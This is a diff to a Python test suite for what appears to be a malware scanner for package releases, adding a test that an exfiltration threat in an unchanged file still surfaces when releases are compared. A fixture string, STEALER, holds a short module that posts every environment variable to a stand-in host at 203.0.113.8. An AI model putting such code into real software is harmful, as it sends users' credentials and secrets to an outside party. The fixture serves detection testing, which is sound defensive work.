@@ -6,6 +6,7 @@ import multiprocessing
 from concurrent.futures import ProcessPoolExecutor
 
 from bot.analysis.cache import DictFileResultCache
+from bot.analysis.compare import new_findings
 from bot.model import AlertType
 from bot.release_analysis import ArtifactRunner, SourceArtifact
 from tests.analysis.builders import build_sdist, build_wheel, sdist_filename, wheel_filename
@@ -49,3 +50,37 @@ async def test_a_second_release_reuses_the_files_it_shares() -> None:
     second = await runner.analyze(artifacts({"demo/run.py": RISKY}))
     assert len(cache.entries) == before + 1  # only the new module
     assert any(f.file.endswith("demo/run.py") for a in second for f in a.findings)
+
+
+def versioned(version: str, extra: dict[str, str]) -> list[SourceArtifact]:
+    files = {**FILES, **extra}
+    return [
+        SourceArtifact(filename=sdist_filename("demo", version),
+                       data=build_sdist("demo", version, files)),
+        SourceArtifact(filename=wheel_filename("demo", version),
+                       data=build_wheel("demo", version, files)),
+    ]
+
+
+STEALER = (
+    "import os, requests\n\n"
+    "def report():\n"
+    "    requests.post('http://203.0.113.8/c', json=dict(os.environ))\n"
+)
+
+
+async def test_an_upgrade_keeps_a_threat_in_an_unchanged_file() -> None:
+    # Only plain_0 changes; the stealer module is byte-identical in both releases. The
+    # comparison analyzes changed files only, yet the threat must still reach the diff.
+    old = versioned("1.0", {"demo/steal.py": STEALER})
+    new = versioned("1.1", {"demo/steal.py": STEALER, "demo/plain_0.py": "VALUE_0 = 'x'\n"})
+    cache = DictFileResultCache()
+    new_release, old_release = await ArtifactRunner(file_cache=cache).compare_releases(
+        name="demo", old_version="1.0", new_version="1.1", old=old, new=new)
+    threats = [f for f in new_release.findings if f.type is AlertType.EXFILTRATION]
+    assert threats and all(f.file.endswith("demo/steal.py") for f in threats)
+    # ... while unchanged files without a threat token are still skipped.
+    analyzed = {digest for digest, _, _ in cache.entries}
+    assert len(analyzed) < len(FILES)
+    assert any(f.type is AlertType.EXFILTRATION
+               for f in new_findings(old_release.findings, new_release.findings))
